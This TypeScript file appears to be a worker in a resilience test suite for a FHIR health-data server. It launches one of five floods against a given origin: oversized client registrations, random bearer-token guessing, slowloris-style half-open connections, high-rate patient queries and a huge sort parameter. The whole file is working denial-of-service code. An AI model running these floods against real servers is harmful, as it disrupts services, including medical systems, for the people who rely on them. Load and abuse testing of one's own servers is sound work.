/** A process that does harm to a server until it is ended: `hostile.ts` says what. */
import { connect, type Socket } from 'node:net';
import process from 'node:process';

/** What harm is done, and to what. */
export interface Flood {
  readonly kind: 'registrations' | 'tokens' | 'half-open' | 'fhir' | 'search';
  readonly origin: string;
  readonly token: string;
}

/** Requests on their way at once, where a flood is as fast as the server takes it. */
const IN_FLIGHT = 50;
const FHIR_PER_SECOND = 2_000;
const HALF_OPEN = 1_500;
const MEGABYTE = 1_000_000;

const { kind, origin, token } = JSON.parse(process.argv[2] ?? '') as Flood;
const { hostname, host, port } = new URL(origin);
let sent = 0;

/** Counts requests that fail as sent: the server may cut them off. */
async function send(path: string, init: RequestInit): Promise<void> {
  sent += 1;
  const response = await fetch(`${origin}${path}`, init).catch(() => undefined);
  await response?.arrayBuffer().catch(() => undefined);
}

/** A connection whose answers are not read into anything. */
function kept(): Socket {
  return connect(Number(port), hostname)
    .on('error', () => undefined)
    .resume();
}

const authorization = `Bearer ${token}`;

const FLOODS: Readonly<Record<Flood['kind'], () => unknown>> = {
  registrations: () => {
    const body = JSON.stringify({ client_name: 'x'.repeat(900_000), redirect_uris: ['http://localhost/x'] });
    const head = `POST /auth/register HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`;
    const request = Buffer.from(head + body);
    const register = (): void => {
      sent += 1;
      // The next one when the server has ended the connection.
      kept().on('close', register).write(request);
    };
    for (let n = 0; n < IN_FLIGHT; n += 1) register();
  },
  tokens: () => {
    const guess = (socket: Socket): void => {
      sent += 1;
      const head = `POST /hub HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 2\r\n`;
      socket.write(`${head}Authorization: Bearer ${crypto.randomUUID()}\r\n\r\n{}`);
    };
    const open = (): void => {
      const socket = kept().on('close', open);
      guess(socket);
      // The next when the one before is answered.
      socket.on('data', () => guess(socket));
    };
    for (let n = 0; n < IN_FLIGHT; n += 1) open();
  },
  'half-open': () => {
    const open = (): void => {
      sent += 1;
      const socket = connect(Number(port), hostname, () => socket.write('POST /hub HTTP/1.1\r\nHost: x\r\nContent-'));
      socket.on('error', () => undefined);
      socket.on('close', open);
    };
    for (let n = 0; n < HALF_OPEN; n += 1) open();
  },
  fhir: () => {
    const request = `GET /fhir/Patient?_count=1 HTTP/1.1\r\nHost: ${host}\r\nAuthorization: ${authorization}\r\n\r\n`;
    const sockets: Socket[] = [];
    const open = (place: number): void => {
      // The server ends a connection that is many requests ahead of its answers.
      sockets[place] = kept().on('close', () => open(place));
    };
    for (let place = 0; place < IN_FLIGHT; place += 1) open(place);
    const startedAt = performance.now();
    let turn = 0;
    // By the time that has passed: a timer that comes late makes up for it.
    setInterval(() => {
      for (const due = ((performance.now() - startedAt) / 1000) * FHIR_PER_SECOND; turn < due; turn += 1) {
        const socket = sockets[turn % IN_FLIGHT]!;
        if (!socket.writable) continue;
        socket.write(request);
        sent += 1;
      }
    }, 20);
  },
  search: () => {
    const body = new URLSearchParams({ _sort: 'name,'.repeat(MEGABYTE / 5) });
    return send('/fhir/Patient/_search', { method: 'POST', headers: { authorization }, body });
  },
};

process.on('message', () => process.send?.(sent));
process.on('disconnect', () => process.exit());
process.send?.(sent);
void FLOODS[kind]();
